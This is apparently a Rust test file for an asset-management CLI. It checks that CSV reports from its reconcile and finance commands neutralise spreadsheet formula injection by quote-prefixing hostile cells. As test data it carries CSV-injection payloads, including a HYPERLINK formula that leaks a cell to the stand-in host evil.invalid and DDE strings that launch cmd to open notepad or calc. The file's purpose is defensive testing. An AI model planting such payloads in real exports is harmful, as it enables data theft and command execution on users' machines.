//! Hostile input to the parts of the CLI that read and write CSV, the finance reconciliation
//! and `reconcile`'s JSON inputs: every case asserts what the command prints (a typed error
//! with its position, a finding, or a neutralised cell), its exit code, and that it did not
//! panic. Fixtures: `tests/data/reconcile/formula.json`, `tests/data/finance/formula-*.json`;
//! the rest are built here.
#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used)] // test code: a panic is a failure

mod support;
use support::*;

use itam_core::finance::csv::{Limits, is_formula_like, read};

fn data(rel: &str) -> String {
    format!("{}/tests/data/{rel}", env!("CARGO_MANIFEST_DIR"))
}

/// No panic message and no Rust backtrace on standard error.
fn no_panic(out: &std::process::Output) {
    let err = stderr(out);
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "{err}"
    );
}

/// Every cell of a CSV report, read back with the project's reader (which also proves the
/// report is well-formed RFC 4180), by record.
fn cells(text: &str) -> Vec<Vec<String>> {
    read(text, &Limits::default())
        .unwrap_or_else(|e| panic!("report is not CSV ({e}): {text}"))
        .into_iter()
        .map(|r| r.into_iter().map(|f| f.text).collect())
        .collect()
}

/// No cell of `rows` would run as a formula in a spreadsheet.
fn no_formula(rows: &[Vec<String>]) {
    for row in rows {
        for cell in row {
            assert!(!is_formula_like(cell), "formula cell {cell:?} in {row:?}");
        }
    }
}

// --- formula cells (CSV injection) -----------------------------------------------------------

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.invalid/?leak=\"&A1,\"Click\")";
const NOTEPAD: &str = "+cmd|' /C notepad'!'A1'";

#[test]
fn reconcile_csv_neutralises_formula_names_and_keeps_the_numbers() {
    let out = itam(&[
        "reconcile",
        &data("reconcile/formula.json"),
        "--as-of",
        "2026-01-01",
        "--csv",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 1, "{}", stderr(&out)); // a shortfall of 2
    let text = stdout(&out);
    // The publisher, a quoted cell behind one single quote, exactly as OWASP recommends.
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil.invalid/?leak=\"\"&A1,\"\"Click\"\")\""),
        "{text}"
    );
    let rows = cells(&text);
    no_formula(&rows);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][0], format!("'{HYPERLINK}"));
    assert_eq!(rows[1][1], format!("'{NOTEPAD}"));
    // The figures are untouched: consumers 3, demand 3, covered 1, shortfall 2, cost 20.
    assert_eq!(rows[1][4..9], ["3", "3", "0", "1", "2"]);
    assert_eq!(rows[1][12], "20");
}

#[test]
fn reconcile_csv_decisions_neutralises_ids() {
    let out = itam(&[
        "reconcile",
        &data("reconcile/formula.json"),
        "--as-of",
        "2026-01-01",
        "--csv-decisions",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let rows = cells(&stdout(&out));
    no_formula(&rows);
    assert_eq!(rows.len(), 4, "{rows:?}");
    for row in &rows[1..] {
        // The entitlement `-2+3` is a formula, not a negative number.
        assert_eq!(row[5], "'-2+3");
        assert_eq!(row[0], format!("'{HYPERLINK}"));
    }
    // The consumers carry their kind first (`device:`), so they never start a formula; the
    // tab and CR inside them are kept, quoted.
    let consumers: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
    assert!(consumers.contains(&"device:\t=1+1"), "{consumers:?}");
    assert!(consumers.contains(&"device:\r=2+2"), "{consumers:?}");
}

#[test]
fn finance_csv_neutralises_every_table() {
    let out = itam(&[
        "finance",
        "reconcile",
        "--cms",
        &data("finance/formula-cms.json"),
        "--ledger",
        &data("finance/formula-ledger.json"),
        "--csv",
    ]);
    no_panic(&out);
    assert_eq!(code(&out), 0, "{}", stderr(&out)); // warnings only
    let text = stdout(&out);
    let tables: Vec<&str> = text.split("\r\n\r\n").collect();
    assert_eq!(tables.len(), 3, "{text}");
    let matches = cells(tables[0]);
    no_formula(&matches);
    // The serial match's evidence is the serial itself, a DDE payload.
    assert_eq!(matches[1][2], "serial");
    assert_eq!(matches[1][4], "'@SUM(1+1)*cmd|' /C calc'!A0");
    let discrepancies = cells(tables[2]);
    no_formula(&discrepancies);
    assert_eq!(discrepancies.len(), 4, "{discrepancies:?}");
}

#[test]
fn attack_strings_of_every_class_are_neutralised_in_a_report() {
    // The payload classes OWASP lists, and the cells the writer leaves alone.
    let neutralised = [
        HYPERLINK,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        NOTEPAD,
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "=1+1;=2+2",
        "\u{ff1d}1+1",
    ];
    let kept = ["-3", "-0.5", "12", "a=1", "x@y", ""];
    let mut out = String::new();
    itam_core::finance::csv::write_report_record(&mut out, &neutralised);
    itam_core::finance::csv::write_report_record(&mut out, &kept);
    let rows = cells(&out);
    no_formula(&rows);
    let expected: Vec<String> = neutralised.iter().map(|c| format!("'{c}")).collect();
    assert_eq!(rows[0], expected);
    assert_eq!(rows[1], kept);
}
